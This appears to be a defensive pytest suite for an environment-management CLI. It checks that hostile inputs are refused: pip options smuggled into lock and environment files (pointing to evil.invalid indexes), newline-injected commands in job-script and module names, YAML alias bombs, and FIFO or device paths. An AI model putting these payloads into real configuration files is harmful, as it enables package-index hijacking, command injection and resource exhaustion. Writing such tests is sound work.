"""Issue 16: hostile files and names, across every verb that reads or writes a file.

* #4 pip options smuggled in through a lock, an environment.yml or a constraints file;
* #5 control characters in names and paths that end up in a script, a modulefile or YAML;
* #8 YAML alias bombs, and FIFOs or devices given as input files;
* #9 FIFOs and devices given as output files.

Every case runs the real CLI in a child process (bounded time and memory) and must give one
error line, a non-zero exit, no traceback, well within the time limit, and leave the work
directory exactly as it was (directories, links and special files included).
"""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests import prefixes as P
from tests.robustness.helpers import assert_refused, run_cli, snapshot

Setup = Callable[[Path], list[str]]
SHA = "a" * 64
MD5 = "b" * 32


@dataclass(frozen=True)
class Case:
    id: str
    setup: Setup
    says: str
    root_only: bool = False


def write(path: Path, content: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content)
    return path


def env_dir(path: Path) -> Path:
    return P.write_prefix(path, P.healthy())


def alias_bomb(indent: str, levels: int = 9) -> list[str]:
    """A billion-laughs block: 9 anchors, each a list of 9 aliases of the one before."""
    lines = [f'{indent}a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for n in range(1, levels):
        lines.append(f"{indent}a{n}: &a{n} [" + ",".join([f"*a{n - 1}"] * 9) + "]")
    return lines


def conda_lock(
    w: Path, *, pip_reqs: str | None = None, pip_pkg: dict[str, str] | None = None
) -> str:
    """A conda-lock v1 file with one conda package (a file:// URL that is never reached) and
    the given pip part."""
    custom = {"pip_requirements": pip_reqs} if pip_reqs is not None else {}
    packages: list[dict[str, object]] = [
        {
            "name": "python",
            "version": "3.11.7",
            "manager": "conda",
            "platform": "linux-64",
            "dependencies": {},
            "url": f"file://{w}/chan/linux-64/python-3.11.7-h0_0.conda",
            "hash": {"md5": MD5, "sha256": SHA},
            "category": "main",
            "optional": False,
        }
    ]
    if pip_pkg is not None:
        packages.append(
            {
                "manager": "pip",
                "platform": "linux-64",
                "dependencies": {},
                "hash": {"sha256": SHA},
                "category": "main",
                "optional": False,
                **pip_pkg,
            }
        )
    doc = {
        "version": 1,
        "metadata": {
            "platforms": ["linux-64"],
            "content_hash": {"linux-64": "x"},
            "channels": [],
            "sources": [],
            **({"custom_metadata": custom} if custom else {}),
        },
        "package": packages,
    }
    return json.dumps(doc)  # JSON is YAML


def from_lock(content: Callable[[Path], str | bytes]) -> Setup:
    def setup(w: Path) -> list[str]:
        lock = write(w / "conda-lock.yml", content(w))
        return ["create", "-p", str(w / "env"), "--from-lock", str(lock), "--yes", "--offline"]

    return setup


def from_file(content: str, extra: dict[str, str] | None = None) -> Setup:
    def setup(w: Path) -> list[str]:
        for name, text in (extra or {}).items():
            write(w / name, text)
        env = write(w / "environment.yml", content)
        return [
            "create",
            "-p",
            str(w / "env"),
            "-f",
            str(env),
            "--yes",
            "--offline",
            "-c",
            str(w / "nochan"),
        ]

    return setup


def explicit(pip_line: str) -> Callable[[Path], str]:
    return lambda w: (
        "# platform: linux-64\n@EXPLICIT\n"
        f"file://{w}/chan/linux-64/python-3.11.7-h0_0.conda#{SHA}\n# pip {pip_line}\n"
    )


def fifo(name: str, *argv: str) -> Setup:
    """``argv`` with {fifo} a named pipe in the work dir and {w} the work dir."""

    def setup(w: Path) -> list[str]:
        P.make_fifo(w / name)
        if "{env}" in " ".join(argv):
            env_dir(w / "env")
        return [a.format(fifo=w / name, w=w, env=w / "env") for a in argv]

    return setup


def chardev(name: str, *argv: str) -> Setup:
    """``argv`` with {dev} a character device like /dev/null made in the work dir (root)."""

    def setup(w: Path) -> list[str]:
        os.mknod(w / name, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        if "{env}" in " ".join(argv):
            env_dir(w / "env")
        return [a.format(dev=w / name, w=w, env=w / "env") for a in argv]

    return setup


def with_env(*argv: str, env_name: str = "env") -> Setup:
    """``argv`` with {env} an installed-looking env at w/ENV_NAME (any name, control
    characters included) and {w} the work dir."""

    def setup(w: Path) -> list[str]:
        env_dir(w / env_name)
        return [a.format(env=w / env_name, w=w) for a in argv]

    return setup


def env_yml_bomb() -> str:
    return "\n".join(["dependencies: [python]", "variables:", *alias_bomb("  ")]) + "\n"


def lock_bomb(w: Path) -> str:
    lines = ["version: 1", "x:", *alias_bomb("  "), "metadata:", "  platforms: *a8", "package: []"]
    return "\n".join(lines) + "\n"


def deep_report(w: Path) -> list[str]:
    """A report nested 200 000 levels deep (json.loads raises RecursionError on it)."""
    write(w / "r.json", "[" * 200_000)
    return with_env("verify", "-p", "{env}", "--from-report", str(w / "r.json"))(w)


def constraints_fifo(w: Path) -> list[str]:
    P.make_fifo(w / "c.txt")
    return from_file("dependencies:\n  - python\n  - pip:\n      - -c c.txt\n")(w)


def env_output_link_to_fifo(w: Path) -> list[str]:
    P.make_fifo(w / "f")
    (w / "e.yml").symlink_to(w / "f")
    return ["env", "-o", str(w / "e.yml")]


CASES = [
    # --- #4: pip lines read from files are parsed requirements, never options
    Case(
        "conda-lock-pip-requirements-log-option",
        from_lock(lambda w: conda_lock(w, pip_reqs=f"unsloth\n--log={w}/pwned\n")),
        "pip option '--log'",
    ),
    Case(
        "conda-lock-pip-requirements-index-url",
        from_lock(lambda w: conda_lock(w, pip_reqs="--index-url http://evil.invalid/simple")),
        "pip option '--index-url'",
    ),
    Case(
        "conda-lock-pip-requirements-editable",
        from_lock(lambda w: conda_lock(w, pip_reqs="-e .")),
        "pip option '-e'",
    ),
    Case(
        "conda-lock-pip-requirements-other-file",
        from_lock(lambda w: conda_lock(w, pip_reqs="-r other.txt")),
        "pip option '-r'",
    ),
    Case(
        "conda-lock-pip-requirements-hash-option",
        from_lock(lambda w: conda_lock(w, pip_reqs=f"trl==0.11.1 --hash=sha256:{SHA}")),
        "is not a pip requirement",
    ),
    Case(
        "conda-lock-pip-package-name-is-an-option",
        from_lock(
            lambda w: conda_lock(
                w, pip_pkg={"name": "--log=/tmp/x", "version": "1.0", "url": "https://x/a.whl"}
            )
        ),
        "is not a project name",
    ),
    Case(
        "conda-lock-pip-package-version-with-option",
        from_lock(
            lambda w: conda_lock(
                w, pip_pkg={"name": "trl", "version": "1.0 --pre", "url": "https://x/a.whl"}
            )
        ),
        "not a PEP 440 version",
    ),
    Case(
        "conda-lock-pip-package-url-with-newline",
        from_lock(
            lambda w: conda_lock(
                w, pip_pkg={"name": "trl", "version": "1.0", "url": "https://x/a.whl\n--pre"}
            )
        ),
        "contains a control character",
    ),
    Case(
        "explicit-pip-index-url",
        from_lock(explicit("--index-url http://evil.invalid/simple")),
        "pip option '--index-url'",
    ),
    Case(
        "explicit-pip-requirement-with-option",
        from_lock(explicit("trl==0.11.1 --log=/tmp/x")),
        "is not a pip requirement",
    ),
    Case(
        "envyml-pip-requirement-with-option",
        from_file("dependencies:\n  - python\n  - pip:\n      - trl --log=/tmp/x\n"),
        "is not a pip requirement",
    ),
    Case(
        "envyml-pip-requirement-with-newline",
        from_file('dependencies:\n  - python\n  - pip:\n      - "trl\\n--log=/tmp/x"\n'),
        "contains a control character",
    ),
    Case(
        "envyml-pip-requirements-file",
        from_file("dependencies:\n  - python\n  - pip:\n      - -r other.txt\n"),
        "pip option '-r'",
    ),
    Case(
        "envyml-pip-path",
        from_file("dependencies:\n  - python\n  - pip:\n      - ./local/pkg\n"),
        "is not a pip requirement",
    ),
    Case(
        "constraints-file-index-url",
        from_file(
            "dependencies:\n  - python\n  - pip:\n      - -c c.txt\n      - trl\n",
            {"c.txt": "torch==2.5.1\n--index-url http://evil.invalid/simple\n"},
        ),
        "pip option '--index-url'",
    ),
    Case(
        "constraints-file-editable",
        from_file(
            "dependencies:\n  - python\n  - pip:\n      - -c c.txt\n",
            {"c.txt": "-e git+https://evil.invalid/x.git#egg=x\n"},
        ),
        "pip option '-e'",
    ),
    # --- #5: control characters in names and paths we write
    Case(
        "create-name-with-newline",
        lambda w: [
            "create",
            "-n",
            "a\nb",
            "--yes",
            "--cuda",
            "12.1",
            "--offline",
            "-c",
            str(w / "nochan"),
        ],
        "contains a control character",
    ),
    Case(
        "create-prefix-with-tab",
        lambda w: [
            "create",
            "-p",
            str(w / "e\tx"),
            "--yes",
            "--cuda",
            "12.1",
            "--offline",
            "-c",
            str(w / "nochan"),
        ],
        "contains a control character",
    ),
    Case(
        "create-prefix-dotdot",
        lambda w: [
            "create",
            "-p",
            str(w / "missing" / ".."),
            "--yes",
            "--cuda",
            "12.1",
            "--offline",
            "-c",
            str(w / "nochan"),
        ],
        "names no directory of its own",
    ),
    Case(
        "create-prefix-root",
        lambda w: [
            "create",
            "-p",
            "/",
            "--yes",
            "--cuda",
            "12.1",
            "--offline",
            "-c",
            str(w / "nochan"),
        ],
        "names no directory of its own",
    ),
    Case(
        "env-name-with-tab",
        lambda w: ["env", "-n", "a\tb", "-o", str(w / "e.yml")],
        "contains a control character",
    ),
    Case(
        "env-output-with-newline",
        lambda w: ["env", "-o", str(w / "e\n.yml")],
        "contains a control character",
    ),
    Case(
        "sbatch-prefix-with-newline",
        with_env("verify", "-p", "{env}", "--sbatch", "{w}/job.sh", env_name="env\ntouch pwned"),
        "contains a control character",
    ),
    Case(
        "sbatch-report-with-newline",
        with_env("verify", "-p", "{env}", "--sbatch", "{w}/job.sh", "--report", "{w}/r\nid.json"),
        "contains a control character",
    ),
    Case(
        "sbatch-output-with-cr",
        with_env("verify", "-p", "{env}", "--sbatch", "{w}/job\r.sh"),
        "contains a control character",
    ),
    Case(
        "module-prefix-with-newline",
        with_env("module", "-p", "{env}", "u/1", "-o", "{w}", env_name="env\nos.exit(1)"),
        "contains a control character",
    ),
    Case(
        "module-name-with-trailing-newline",
        with_env("module", "-p", "{env}", "u/1\n", "-o", "{w}"),
        "is not valid",
    ),
    Case(
        "export-prefix-with-esc",
        with_env("export", "-p", "{env}", "-o", "{w}/x.txt", env_name="env\x1b[2J"),
        "contains a control character",
    ),
    # --- #8: alias bombs, and FIFOs / devices given as input files
    Case("envyml-alias-bomb", from_file(env_yml_bomb()), "aliases expand to more than"),
    Case("conda-lock-alias-bomb", from_lock(lock_bomb), "aliases expand to more than"),
    Case(
        "envyml-recursive-alias",
        from_file("dependencies: [python]\nvariables:\n  a: &a [*a]\n"),
        "YAML",
    ),
    Case(
        "envyml-fifo",
        fifo("e.yml", "create", "-p", "{w}/env", "-f", "{fifo}", "--yes", "--offline"),
        "is a FIFO",
    ),
    Case(
        "lock-fifo",
        fifo("lock.txt", "create", "-p", "{w}/env", "--from-lock", "{fifo}", "--yes"),
        "is a FIFO",
    ),
    Case(
        "report-fifo",
        fifo("r.json", "verify", "-p", "{env}", "--from-report", "{fifo}"),
        "is a FIFO",
    ),
    Case(
        "constraints-fifo",
        constraints_fifo,
        "not a regular file",
    ),
    Case(
        "envyml-dev-zero",
        lambda w: ["create", "-p", str(w / "env"), "-f", "/dev/zero", "--yes", "--offline"],
        "is a character device",
    ),
    Case(
        "lock-dev-zero",
        lambda w: ["create", "-p", str(w / "env"), "--from-lock", "/dev/zero", "--yes"],
        "is a character device",
    ),
    Case(
        "report-dev-zero",
        with_env("verify", "-p", "{env}", "--from-report", "/dev/zero"),
        "is a character device",
    ),
    Case(
        "report-nested-too-deeply",
        deep_report,
        "nested too deeply",
    ),
    # --- #9: FIFOs and devices given as output files
    Case("env-output-fifo", fifo("e.yml", "env", "-o", "{fifo}"), "is a FIFO"),
    Case(
        "env-output-link-to-fifo",
        env_output_link_to_fifo,
        "is a FIFO",
    ),
    Case(
        "export-output-fifo", fifo("x.txt", "export", "-p", "{env}", "-o", "{fifo}"), "is a FIFO"
    ),
    Case(
        "sbatch-output-fifo",
        fifo("job.sh", "verify", "-p", "{env}", "--sbatch", "{fifo}"),
        "is a FIFO",
    ),
    Case(
        "module-output-fifo",
        fifo("u/1.lua", "module", "-p", "{env}", "u/1", "--format", "lmod", "-o", "{w}"),
        "is a FIFO",
    ),
    Case(
        "env-output-chardev",
        chardev("null", "env", "-o", "{dev}"),
        "is a character device",
        root_only=True,
    ),
    Case(
        "export-output-chardev",
        chardev("null", "export", "-p", "{env}", "-o", "{dev}"),
        "is a character device",
        root_only=True,
    ),
    Case(
        "sbatch-output-chardev",
        chardev("null", "verify", "-p", "{env}", "--sbatch", "{dev}"),
        "is a character device",
        root_only=True,
    ),
]


def test_cases_are_unique() -> None:
    assert len({c.id for c in CASES}) == len(CASES) >= 40


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input(tmp_path: Path, case: Case) -> None:
    if case.root_only and os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    w = tmp_path / "w"
    w.mkdir()
    args = case.setup(w)
    before = snapshot(w)
    r = run_cli(args, tmp_path / "sys", cwd=w)
    assert_refused(r, case.says)
    assert snapshot(w) == before, f"{case.id} changed the work directory"
    assert not (w / "pwned").exists() and not (tmp_path / "pwned").exists()
